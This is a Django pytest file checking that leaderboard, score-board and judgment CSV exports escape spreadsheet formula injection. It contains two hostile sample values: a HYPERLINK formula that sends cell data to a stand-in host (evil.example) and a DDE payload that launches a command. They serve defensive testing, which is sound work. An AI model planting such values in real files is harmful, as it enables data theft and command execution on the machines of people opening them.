"""CSV formula injection in the judging downloads (a cell starting like a formula runs when an
analyst opens the file in a spreadsheet): a model name or annotator id that starts like a
formula is neutralised in the leaderboard and score-board CSVs and in
``export_judgments`` (generic and VisIT-Bench), and an export still re-imports to itself."""
import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from judging.models import Judgment
from judging.services.judgments.exports import judgments_export
from judging.services.judgments.formats import COLUMNS
from judging.services.judgments.imports import judgments_import

pytestmark = pytest.mark.django_db
EVIL_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"LLaVA")'
EVIL_WORKER = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _rows():
    base = {"dataset": "import", "image_urls": '["https://e.org/x.png"]',
            "source": "human", "turn": "", "timestamp": ""}
    return [
        {**base, "item_id": "i1", "instruction": "-Describe.", "model_a": EVIL_MODEL,
         "response_a": "- a bullet", "model_b": "blip", "response_b": "+plus",
         "annotator": EVIL_WORKER, "choice": "A", "score": ""},
        {**base, "item_id": "i2", "instruction": "Describe.", "model_a": "blip",
         "response_a": "b", "model_b": EVIL_MODEL, "response_b": "a",
         "annotator": "w2", "choice": "B", "score": ""},
        {**base, "item_id": "i3", "instruction": "Grade.", "model_a": EVIL_MODEL,
         "response_a": "graded", "model_b": "", "response_b": "", "annotator": EVIL_WORKER,
         "choice": "", "score": "4"},
    ]


def _csv_bytes(rows, columns):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n", extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def _cells(text):
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_neutral(text):
    bad = [c for c in _cells(text) if c[:1] in TRIGGERS and not _number(c)]
    assert bad == [], bad


def _number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture
def imported():
    judgments_import("j.csv", _csv_bytes(_rows(), COLUMNS), create_missing=True)


def test_leaderboard_and_score_board_downloads(imported, analyst_client, capsys):
    for name in ("leaderboard_download", "leaderboard_scores_download"):
        text = analyst_client.get(reverse(f"judging:{name}", args=["csv"]) +
                                  "?judge=human").content.decode()
        assert "'" + EVIL_MODEL in _cells(text), text
        _assert_neutral(text)
    for board in ("pairwise", "score"):
        call_command("ratings", "--board", board, "--format", "csv", "--rounds", "50")
        _assert_neutral(capsys.readouterr().out)


def test_export_judgments_is_neutralised_and_round_trips(imported, tmp_path):
    exported = judgments_export("csv")
    assert "'" + EVIL_MODEL in _cells(exported) and "'" + EVIL_WORKER in _cells(exported)
    _assert_neutral(exported)
    visit = judgments_export("visitbench")
    _assert_neutral(visit)
    out = tmp_path / "j.csv"
    call_command("export_judgments", "--format", "csv", "--out", str(out))
    assert out.read_text() == exported
    # Re-importing the export gives the same judgments, and exporting again the same bytes.
    names = sorted(Judgment.objects.values_list("annotator", flat=True))
    Judgment.objects.all().delete()
    judgments_import("again.csv", exported.encode())
    assert sorted(Judgment.objects.values_list("annotator", flat=True)) == names
    assert judgments_export("csv") == exported
